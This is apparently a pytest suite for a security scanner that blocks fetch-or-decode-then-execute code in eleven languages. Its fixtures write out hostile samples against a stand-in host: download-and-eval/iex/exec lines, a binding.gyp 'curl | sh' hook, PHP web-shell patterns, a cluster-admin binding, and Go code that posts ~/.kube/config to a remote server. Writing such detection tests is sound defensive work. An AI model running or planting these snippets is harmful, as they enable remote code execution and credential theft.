"""What programs in languages that are not followed name by name fetch or decode, and run."""

from __future__ import annotations

import itertools

import pytest

from metier.govern.scan import scan_text

AT = "https://cdn.palette-core.net/curve"
GOT = {
    "rb": [f"URI.open('{AT}').read", "Base64.decode64(File.read('x.dat'))", "File.binread('x').bytes.map { |b| (b ^ 9).chr }.join"],
    "php": [f"file_get_contents('{AT}')", "base64_decode(file_get_contents('x.dat'))", "gzinflate(base64_decode($blob))"],
    "pl": [f"get('{AT}')", "decode_base64(join '', <STDIN>)", "pack('H*', $hex)"],
    "lua": [f"http.request('{AT}')", f"io.popen('curl -s {AT}'):read('*a')"],
    "go": [
        f'r, _ := http.Get("{AT}")\n\tb, _ := io.ReadAll(r.Body)',
        'raw, _ := os.ReadFile("x.dat")\n\tb, _ := base64.StdEncoding.DecodeString(string(raw))',
    ],
    "rs": [f'let b = reqwest::blocking::get("{AT}").unwrap().text().unwrap();', "let b = base64::decode(read()).unwrap();"],
    "cs": [f'await http.GetByteArrayAsync("{AT}")', "Convert.FromBase64String(kept)"],
    "exs": [f'HTTPoison.get!("{AT}").body', "Base.decode64!(File.read!(\"x.dat\"))"],
    "jl": [f'download("{AT}")', 'base64decode(read("x.dat", String))'],
    "R": [f'readLines("{AT}")', "memDecompress(kept)"],
    "ps1": [
        f"(irm {AT})",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content x.dat -Raw)))",
        "(-join ([IO.File]::ReadAllBytes('x.bin') | % { [char]($_ -bxor 23) }))",
    ],
}  # fmt: skip
RUN = {
    "rb": ["eval(G)", "d = G\nsystem(d)", "File.write('/tmp/x.sh', G)\nsystem('bash /tmp/x.sh')", "def grab\n  G\nend\neval(grab)", "d = G\n`#{d}`"],
    "php": ["eval(G);", "$d = G;\nsystem($d);", "file_put_contents('/tmp/x.php', G);\ninclude '/tmp/x.php';", "function grab() { return G; }\neval(grab());"],
    "pl": ["eval(G);", "my $d = G;\nsystem($d);", "my $d = G;\nopen(my $p, '|-', 'sh');\nprint $p $d;"],
    "lua": ["load(G)()", "local d = G\nos.execute(d)", "local f = io.open('/tmp/x.sh', 'w')\nf:write(G)\nf:close()\nos.execute('sh /tmp/x.sh')"],
    "go": [
        '\tG\n\texec.Command("sh", "-c", string(b)).Run()\n}',
        '\tG\n\tos.WriteFile("/tmp/x", b, 0755)\n\texec.Command("/tmp/x").Start()\n}',
        '\tG\n\tcmd := string(b)\n\texec.Command("sh", "-c", cmd).Run()\n}',
    ],
    "rs": ['    G\n    Command::new("sh").arg("-c").arg(&b).spawn();\n}', '    G\n    std::fs::write("/tmp/x.sh", &b);\n    Command::new("sh").arg("/tmp/x.sh").spawn();\n}'],
    "cs": ["var b = G;\nAssembly.Load(b);", 'File.WriteAllBytes("/tmp/x", G);\nProcess.Start("/tmp/x");', "var s = G;\nProcess.Start(s);"],
    "exs": ["Code.eval_string(G)", "body = G\nSystem.shell(body)", "{:ok, {_, _, body}} = G\nCode.eval_string(to_string(body))"],
    "jl": ["include(G)", "code = G\neval(Meta.parse(code))", "code = G\ninclude_string(Main, String(code))"],
    "R": ["eval(parse(text = G))", "x <- G\nsystem(x)", "code = G\neval(parse(text=code))"],
    "ps1": ["iex G", "$x = G\niex $x", "G | iex", "& ([scriptblock]::Create(G))", "Set-Content $env:TEMP\\x.ps1 G\npowershell -File $env:TEMP\\x.ps1"],
}  # fmt: skip
HEAD = {
    "php": "<?php\n",
    "rb": "require 'open-uri'\n",
    "pl": "use LWP::Simple;\n",
    "go": "package main\nfunc main() {\n",
    "rs": "fn main() {\n",
}
CASES = [(ending, got, run) for ending in GOT for got, run in itertools.product(GOT[ending], RUN[ending])]


@pytest.mark.parametrize(("ending", "got", "run"), CASES)
def test_what_is_fetched_or_decoded_and_run_is_blocked(ending: str, got: str, run: str) -> None:
    text = HEAD.get(ending, "") + run.replace("G", got) + "\n"
    assert scan_text(text, f"a.{ending}").decision.value == "block"


HONEST = {
    "a.rb": "data = Base64.decode64(answer['image'])\nFile.binwrite('out.png', data)\nsystem('open', 'out.png')\nname = URI.open('https://api.weather.gov/alerts').read\nputs JSON.parse(name)\n",
    "b.rb": "load 'tasks/build.rake'\nsystem('bundle', 'exec', 'rspec')\nkey = Base64.strict_decode64(ENV['KEY_B64'])\nFile.write('key.pem', key)\n",
    "a.php": "<?php\n$data = json_decode(file_get_contents('https://api.weather.gov/alerts'));\nexec('convert in.png out.png');\n$image = base64_decode($row['image']);\nfile_put_contents('out.png', $image);\n",
    "a.pl": "use LWP::Simple;\nmy $page = get('https://www.perl.org/');\nprint length $page;\nsystem('make', 'test');\n",
    "a.lua": "local body = http.request('https://api.weather.gov/alerts')\nprint(body)\nos.execute('mkdir -p out')\n",
    "a.go": 'package main\nfunc main() {\n\tr, _ := http.Get("https://api.weather.gov/alerts")\n\tb, _ := io.ReadAll(r.Body)\n\tfmt.Println(string(b))\n\texec.Command("git", "status").Run()\n}\n',
    "a.rs": 'fn main() {\n    let b = reqwest::blocking::get("https://api.weather.gov/alerts").unwrap().text().unwrap();\n    println!("{b}");\n    Command::new("cargo").arg("build").status();\n}\n',
    "a.cs": 'var s = await http.GetStringAsync("https://api.weather.gov/alerts");\nFile.WriteAllText("a.json", s);\nProcess.Start("code", "a.json");\nvar b = Convert.FromBase64String(config.Icon);\nFile.WriteAllBytes("icon.png", b);\nAssembly.Load("Plugins");\n',
    "a.exs": '{:ok, r} = Req.get("https://api.weather.gov/alerts")\nIO.puts(r.body)\nSystem.cmd("git", ["status"])\nFile.write!("a.png", Base.decode64!(image))\n',
    "a.jl": 'using Downloads\nDownloads.download("https://api.weather.gov/alerts", "a.json")\ninclude("plot.jl")\nrun(`git status`)\n',
    "a.R": 'd <- readLines("https://www.gutenberg.org/files/11/11-0.txt")\nsource("plot.R")\nplot(d)\nsystem("git status")\n',
    "a.ps1": "$alerts = irm https://api.weather.gov/alerts\n$alerts | ConvertTo-Json\n$bytes = [Convert]::FromBase64String($env:CERT_B64)\n[IO.File]::WriteAllBytes('cert.pfx', $bytes)\n& .\\build.ps1\n",
}  # fmt: skip


ALSO = {
    "a.R": f"source(url('{AT}'))\n",
    "binding.gyp": "{'variables': {'v': '<!(curl -s https://cdn.palette-core.net/v | sh)'}}\n",
    "a.php": "<?php $f = $_GET['f'];\n$f($_POST['q']);\n",
    "b.php": '<?php $a = $_REQUEST;\n$f = "sys"."tem";\n$f($a["q"]);\n',
    "c.php": "<?php call_user_func($_GET['f'], $_GET['a']);\n",
    "a.yaml": "kind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: User, name: ops@palette-core.net}]\n",
}


@pytest.mark.parametrize("name", ALSO)
def test_what_others_say_is_run_in_other_forms_too(name: str) -> None:
    assert scan_text(ALSO[name], name).decision.value == "block"


def test_what_a_build_asks_of_the_machine_is_no_finding() -> None:
    text = "{'variables': {'v': '<!(node -p \"process.version\")', 'd': '<!@(pkg-config --libs x)'}}"
    assert scan_text(text, "binding.gyp").decision.value == "clean"


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_programs_fetch_or_decode_is_not_said_to_be_run(name: str) -> None:
    assert not [one for one in scan_text(HONEST[name], name).findings if one.rule.startswith("run-")]


def test_a_part_of_an_answer_that_is_a_command_is_run() -> None:
    head = f'package main\nfunc poll() {{\n\tfor {{\n\t\tr, _ := http.Get("{AT}")\n\t\tvar n note\n\t\tjson.NewDecoder(r.Body).Decode(&n)\n'
    for run in (
        'exec.Command("sh", "-c", n.Args[0]).Run()',
        "exec.Command(sh, flag, n.Args[0]).Output()",
        "exec.Command(n.Path).Run()",
    ):
        found = scan_text(f"{head}\t\t{run}\n\t}}\n}}\n", "main.go")
        assert {one.rule for one in found.findings if one.severity.value == "block"} == {"run-download"}, run
    for run in ('exec.Command("git", "clone", n.Url).Run()', "fmt.Println(n.Args[0])"):
        assert scan_text(f"{head}\t\t{run}\n\t}}\n}}\n", "main.go").decision.value != "block", run


def test_what_a_function_fetches_is_run_under_another_name() -> None:
    text = f"local function grab(u)\n  local p = io.popen('curl -s {AT}')\n  return p:read('*a')\nend\nlocal src = grab('x')\nlocal chunk = load(src, 'x')\n"
    assert {one.rule for one in scan_text(text, "a.lua").findings if one.severity.value == "block"} == {"run-download"}


def test_a_group_of_constants_of_go_names_a_host() -> None:
    text = 'package main\nconst (\n\tversion = "0.9"\n\tupdateHost = "releases.palette-core.tools"\n)\nfunc check() {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, ".kube", "config"))\n\thttp.Post("https://"+updateHost+"/c", "text/plain", bytes.NewReader(b))\n}\n'
    assert {one.rule for one in scan_text(text, "main.go").findings if one.severity.value == "block"} == {
        "send-secrets"
    }
